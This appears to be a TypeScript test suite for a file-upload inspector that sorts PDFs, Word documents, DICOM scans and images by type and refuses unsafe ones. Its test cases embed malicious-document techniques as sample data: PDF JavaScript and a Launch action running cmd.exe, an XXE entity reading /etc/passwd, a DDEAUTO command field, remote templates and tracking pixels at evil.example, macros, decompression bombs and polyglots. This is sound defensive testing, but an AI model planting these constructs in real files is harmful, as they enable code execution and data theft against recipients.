import type { FileFault } from '@meridian/domain/files';
import { describe, expect, it } from 'vitest';
import * as made from '../testing/made-files.js';
import { inspect } from './inspect.js';

const { docxOf, pdfOf, packed, relation } = made;
const text = (words: string) => Buffer.from(words, 'latin1');
const joined = (...parts: readonly (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const zip = made.zipOf([{ name: 'evil.exe', data: 'MZ' }]);
const zeros = Buffer.alloc(60 * 1024 * 1024);

describe('a file', () => {
  it.each([
    ['pdf', pdfOf()],
    ['pdf', pdfOf(packed('<< /Type /Annot /Subtype /Link >>'))],
    [
      'pdf',
      pdfOf(
        '<< /Names [(stream) (EmbeddedFile) (a \\) b)] >>',
        packed('<< /A << /S /URI /URI (https://example.org) >> >>'),
      ),
    ],
    ['pdf', pdfOf('<< /Filter /DCTDecode >>\nstream\n\x01/XFA\x9c\x02/XFA-\nendstream')],
    ['docx', docxOf()],
    ['docx', docxOf({ related: relation('hyperlink', 'https://www.nhs.uk/link/database') })],
    ['docx', docxOf({ body: '<w:instrText> HYPERLINK "https://example.org/include/link" </w:instrText>' })],
    ['dcm', made.dicomOf()],
    ['dcm', made.dicomOf(joined('II*\0', Buffer.alloc(124)))],
  ])('is a %s by what is in it', async (type, bytes) => {
    expect(await inspect(bytes)).toEqual({ type });
  });

  it.each([
    ['png', made.pngOf(40, 30), 40, 30],
    ['jpg', made.jpegOf(4032, 3024), 4032, 3024],
    ['jpg', joined(made.jpegOf(640, 480), 'PK\x05\x06 by chance', made.noise(100)), 640, 480],
    ['heic', made.heicOf(4032, 3024), 4032, 3024],
  ])('is a %s with the size that its header says', async (type, bytes, width, height) => {
    expect(await inspect(bytes)).toEqual({ type, width, height });
  });

  const refused: readonly (readonly [FileFault, string, Buffer])[] = [
    ['wrongType', 'a program', text('MZ\x90\0\x03')],
    ['wrongType', 'text', text('just words')],
    ['wrongType', 'a page of the web', text('<html><script>alert(1)</script></html>')],
    ['wrongType', 'noise', made.noise(5_000)],
    ['wrongType', 'three bytes', text('abc')],
    ['wrongType', 'another zip', zip],
    [
      'wrongType',
      'a workbook',
      docxOf({ type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }),
    ],
    ['wrongType', 'a film', text('\0\0\0\x18ftypmp42\0\0\0\0mp42isom')],

    ['broken', 'a PDF that is cut', pdfOf().subarray(0, 300)],
    ['broken', 'a docx that is cut', docxOf().subarray(0, 600)],
    ['broken', 'a picture without a header', text('\x89PNG\r\n\x1a\n')],
    [
      'broken',
      'a JPEG without a frame',
      joined(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0, 0, 0xff, 0xd9]), Buffer.alloc(20)),
    ],
    [
      'broken',
      'a PDF that packs twice',
      pdfOf(packed('x', '/Type /ObjStm /First 4 /Filter [/ASCIIHexDecode /FlateDecode]')),
    ],
    ['broken', 'a PDF that packs by reference', pdfOf(packed('x', '/Type /ObjStm /First 4 /Filter 5 0 R'))],
    [
      'broken',
      'a PDF that shifts what it packs',
      pdfOf(packed('x', '/Type /ObjStm /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
    ],
    [
      'broken',
      'a PDF with another object in a text',
      pdfOf(
        packed('/JavaScript', '/First 4 /Filter /FlateDecode /X (1 0 obj <<)').replace(
          '(1 0 obj <<)',
          '(1 0 obj << (a))',
        ),
      ),
    ],
    [
      'broken',
      'a PDF with another object in a comment',
      pdfOf(packed('/JavaScript', '/First 4 /Filter /FlateDecode % 1 0 obj <<\n')),
    ],
    [
      'broken',
      'a docx that says less than is in it',
      docxOf({ more: [{ name: 'word/a.xml', data: 'x'.repeat(9_000), says: 10 }] }),
    ],

    [
      'encrypted',
      'a PDF with a password',
      text(pdfOf('<< /Filter /Standard >>').toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 6 0 R')),
    ],
    [
      'encrypted',
      'a docx with a password within',
      docxOf({ more: [{ name: 'word/a.xml', data: 'x', encrypted: true }] }),
    ],

    ['script', 'a PDF with a script', pdfOf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
    ['script', 'a PDF with a script by another spelling', pdfOf('<< /S /J#61va#53cript /JS 7 0 R >>')],
    ['script', 'a PDF with a packed script', pdfOf(packed('<< /S /JavaScript /JS (x) >>'))],
    [
      'script',
      'a PDF with a script packed under another spelling',
      pdfOf(packed('<< /S /JavaScript >>', '/Type /Obj#53tm /N 1 /First 4 /Filter /Fl#61teDecode')),
    ],
    [
      'script',
      'a PDF with a script in what does not say its type',
      pdfOf(packed('<< /S /JavaScript >>', '/N 1 /First 4 /Filter [ /FlateDecode ]')),
    ],
    [
      'script',
      'a PDF with a script that is not packed',
      pdfOf('<< /Type /ObjStm /First 4 >>\nstream\n9 0 << /S /JavaScript >>\nendstream'),
    ],
    [
      'script',
      'a PDF with a script outside of its objects',
      joined(pdfOf(), '\n<< /S /JavaScript >>\nstartxref\n9\n%%EOF'),
    ],
    ['script', 'a PDF that starts something', pdfOf('<< /S /Launch /F (cmd.exe) >>')],
    ['script', 'a PDF with a form of its own language', pdfOf('<< /XFA 7 0 R >>')],
    ['script', 'a PDF with such a form, written closely', pdfOf('<</#58FA[7 0 R]>>')],
    ['script', 'a PDF with such a form, and a comment', pdfOf('<< /XFA%\n7 0 R >>')],
    [
      'script',
      'a docx with an entity',
      docxOf({
        more: [{ name: 'word/a.xml', data: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }],
      }),
    ],

    ['embedded', 'a PDF with a file within', pdfOf('<< /Type /EmbeddedFile >>')],
    [
      'embedded',
      'a docx with a file within',
      docxOf({ more: [{ name: 'word/embeddings/oleObject1.bin', data: 'MZ' }] }),
    ],

    ['macros', 'a docx with macros', docxOf({ more: [{ name: 'word/vbaProject.bin', data: 'Sub AutoOpen()' }] })],
    ['macros', 'a docx with macros elsewhere', docxOf({ more: [{ name: 'custom/VBAPROJECT.BIN', data: 'x' }] })],
    ['macros', 'a docx with a control', docxOf({ more: [{ name: 'word/activeX/activeX1.xml', data: '<a/>' }] })],
    ['wrongType', 'a docm', docxOf({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' })],

    [
      'externalReference',
      'a docx with a template elsewhere',
      docxOf({ related: relation('attachedTemplate', 'https://evil.example/t.dotm') }),
    ],
    [
      'externalReference',
      'a docx with a picture elsewhere',
      docxOf({ related: relation('image', 'https://evil.example/pixel.png') }),
    ],
    [
      'externalReference',
      'a docx with a share of a network',
      docxOf({ related: relation('frame', 'file://evil/share') }),
    ],
    [
      'externalReference',
      'a docx that asks a program',
      docxOf({ body: '<w:instrText> DDEA</w:instrText><w:instrText>UTO c:\\\\cmd.exe "/k calc" </w:instrText>' }),
    ],
    [
      'externalReference',
      'a docx that includes a picture',
      docxOf({ body: '<w:fldSimple w:instr=" IncludePicture &quot;https://evil.example/a.png&quot; "/>' }),
    ],

    [
      'bomb',
      'a docx that unpacks to much more than it is',
      docxOf({ more: [{ name: 'word/media/a.png', data: zeros }] }),
    ],
    [
      'bomb',
      'a docx with very many parts',
      docxOf({ more: Array.from({ length: 2_100 }, (_, part) => ({ name: `word/${part}.xml`, data: '<a/>' })) }),
    ],
    [
      'broken',
      'a docx that hides how much is in it',
      docxOf({ more: [{ name: 'word/media/a.png', data: zeros, says: 100 }] }),
    ],
    ['bomb', 'a PDF that unpacks to much more than it is', pdfOf(packed(' '.repeat(40 * 1024 * 1024)))],

    ['tooManyPixels', 'a picture that says it is huge', made.pngOf(1, 1, [2_000_000_000, 1])],
    ['tooManyPixels', 'a JPEG that says it is huge', made.jpegOf(65_000, 65_000)],
    ['tooManyPixels', 'a HEIC that says it is huge', made.heicOf(100_000, 100_000)],

    ['severalTypes', 'a PDF that is a zip, too', joined(pdfOf(), zip)],
    ['severalTypes', 'a PDF that is a page, too', joined('%PDF-1.7\n<html><script>alert(1)</script>\n', pdfOf())],
    ['severalTypes', 'a picture that is a zip, too', joined(made.pngOf(4, 4), zip)],
    ['severalTypes', 'a picture that is a PDF, too', joined(made.jpegOf(40, 40), pdfOf())],
    [
      'severalTypes',
      'a picture that is a page, too',
      joined(Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, 40]), '<!doctype html><p>', made.jpegOf(40, 40)),
    ],
    ['severalTypes', 'a DICOM file that is a program, too', made.dicomOf(joined('MZ', Buffer.alloc(126)))],
  ];
  it.each(refused)('is refused as %s: %s', async (fault, _what, bytes) => {
    expect(await inspect(bytes)).toBe(fault);
  });

  it('of the largest size is looked at in a moment', async () => {
    const pixels = made.noise(24 * 1024 * 1024).toString('latin1');
    const scan = pdfOf(`<< /Filter /DCTDecode /Length ${pixels.length} >>\nstream\n${pixels}\nendstream`);
    const began = performance.now();
    expect(await inspect(scan)).toEqual({ type: 'pdf' });
    expect(performance.now() - began).toBeLessThan(5_000);
  });
});
